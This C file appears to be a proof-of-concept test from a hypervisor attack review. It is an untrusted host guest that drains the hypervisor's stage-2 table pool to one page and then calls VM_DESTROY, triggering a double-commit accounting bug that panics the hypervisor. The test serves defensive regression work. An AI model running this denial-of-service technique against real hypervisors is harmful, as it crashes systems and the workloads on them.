/*
 * table-sum-host: an untrusted bare-metal host (1 vCPU) that makes VM_DESTROY panic the
 * hypervisor (attack review of 90cba04).
 *
 * mem_vm_teardown() (hyp/mem/src/mem_own.c) checks its two commits separately:
 *   tables_check(&r, all, ...)      -> tables_available({host: T1})
 *   tables_check(&back, &meta, 1)   -> tables_available({host: T2})
 * but then runs both commits, which together need T1 + T2 of the host's stage-2 tables
 * from hyp_pool. The comment says "the two counts add up"; the code never adds them.
 * With hyp_pool holding exactly one free page and T1 = T2 = 1 (the pVM's page and its
 * metadata sit in two different 2 MiB regions whose host level-3 tables were freed),
 * both checks pass, the first commit takes the last table and the second commit's
 * op_map -> s2_map -> pool_fill fails: panic("stage-2 map for VM 1 ... failed").
 *
 * Steps (all through ordinary host hypercalls):
 *  1. pVM B (sink, 16 MiB IPA) and pVM A (victim, 2 MiB) are created; A's 9 metadata
 *     pages are the start of region Y, A gets page 0 of region X (VM_LOAD); the rest
 *     of X and Y go to B, so the host's level-3 tables for X and Y are freed.
 *  2. hyp_pool is drained: one page of every other 2 MiB region of RAM (4 GiB) goes to
 *     B, each split costing the host one level-3 table, until VM_LOAD says NO_MEMORY
 *     for a region that needs one table: hyp_pool is empty.
 *  3. The rest of the last region drained goes to B: its level-3 table empties and is
 *     freed: hyp_pool holds exactly one page.
 *  4. VM_DESTROY(A): both checks see 1 <= 1; the commits need 2. A correct hypervisor
 *     returns (PAL_E_NO_MEMORY, or OK); this one panics and the verdict never comes.
 */
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include "palisade/error.h"
#include "palisade/hypercall_stubs.h"
#include "guest_console.h"

#define SZ_2M        0x200000ull
#define RAM_END      0x140000000ull     /* --mem 4G */
#define META_B       0x4A000000ull      /* 64 pages */
#define META_B_PAGES 64ull
#define REGION_Y     0x4A200000ull      /* A's metadata: its first 9 pages */
#define META_A_PAGES 9ull
#define REGION_X     0x4A400000ull      /* A's one page: its first page */
#define DRAIN_LO     0x4A600000ull      /* regions drained: [DRAIN_LO, RAM_END) */
#define A_BASE       0x40000000ull
#define A_SIZE       SZ_2M
#define B_BASE       0x80000000ull
#define B_SIZE       (16ull << 20)
#define PSCI_SYSTEM_OFF 0x84000008u

static uint64_t b_next = B_BASE;     /* next free IPA of B */

static void info(const char *what, uint64_t v)
{
	static const char hex[] = "0123456789abcdef";

	guest_puts("TABLE-SUM: ");
	guest_puts(what);
	guest_puts(" 0x");
	for (int s = 60; s >= 0; s -= 4)
		guest_putc(hex[(v >> s) & 0xf]);
	guest_puts("\n");
}

static int64_t give_b(uint16_t b, uint64_t pa, uint64_t pages)
{
	int64_t rc = pal_hc_vm_load(b, pa, pages, b_next, 0);

	if (rc == 0)
		b_next += pages << 12;
	return rc;
}

void guest_main(uint64_t idx)
{
	struct pal_hc_vm_create_result ra, rb;
	uint64_t ok = 0, nomem = 0, other = 0, last_ok = 0;
	int64_t last_rc = 0, rc;
	uint16_t a, b;

	(void)idx;
	guest_puts("TABLE-SUM-HOST\n");
	if (pal_hc_vm_create(1, B_BASE, B_SIZE, META_B, META_B_PAGES, &rb) != 0 ||
	    pal_hc_vm_create(1, A_BASE, A_SIZE, REGION_Y, META_A_PAGES, &ra) != 0) {
		guest_verdict("teardown_counts_both_commits", false, "VM_CREATE failed");
		goto out;
	}
	a = ra.vm_id;
	b = rb.vm_id;
	/* 1. X and Y: a piece for A, the rest for B; the host keeps nothing of them. */
	if (give_b(b, REGION_Y + (META_A_PAGES << 12), 512 - META_A_PAGES) != 0 ||
	    pal_hc_vm_load(a, REGION_X, 1, A_BASE, 0) != 0 ||
	    give_b(b, REGION_X + 0x1000, 511) != 0) {
		guest_verdict("teardown_counts_both_commits", false, "setup VM_LOAD failed");
		goto out;
	}
	/* 2. Drain hyp_pool: regions from the top down, so the last ones (below 2 GiB,
	 * a GiB whose level-2 table exists since boot) each need exactly one table. */
	for (uint64_t r = RAM_END - SZ_2M; r >= DRAIN_LO; r -= SZ_2M) {
		rc = give_b(b, r, 1);
		if (rc == 0) {
			ok++;
			last_ok = r;
		} else if (rc == PAL_E_NO_MEMORY) {
			nomem++;
		} else {
			other++;
		}
		last_rc = rc;
	}
	info("drain: pages given", ok);
	info("drain: NO_MEMORY", nomem);
	info("drain: other refusals", other);
	info("drain: last region given", last_ok);
	if (last_rc != PAL_E_NO_MEMORY || !last_ok || last_ok >= 0x80000000ull) {
		guest_verdict("teardown_counts_both_commits", false,
			      "inconclusive: hyp_pool not drained (needs more RAM?)");
		goto out;
	}
	/* 3. One table back: the rest of the last region drained goes to B. */
	rc = give_b(b, last_ok + 0x1000, 511);
	info("rest of the last region to B, rc", (uint64_t)rc);
	/* hyp_pool: exactly one free page. A one-table give now fails? No: it would take
	 * it. Just destroy A: its pages (X) and its metadata (Y) need one table each. */
	guest_puts("TABLE-SUM: VM_DESTROY(A) now\n");
	rc = pal_hc_vm_destroy(a);
	info("VM_DESTROY(A) rc", (uint64_t)rc);
	guest_verdict("teardown_counts_both_commits", true, "");
	rc = pal_hc_vm_destroy(b);
	info("VM_DESTROY(B) rc", (uint64_t)rc);
out:
	guest_verdict_end();
	register uint64_t x0 __asm__("x0") = PSCI_SYSTEM_OFF;
	__asm__ volatile("hvc #0" : "+r"(x0) : : "memory");
	for (;;)
		;
}
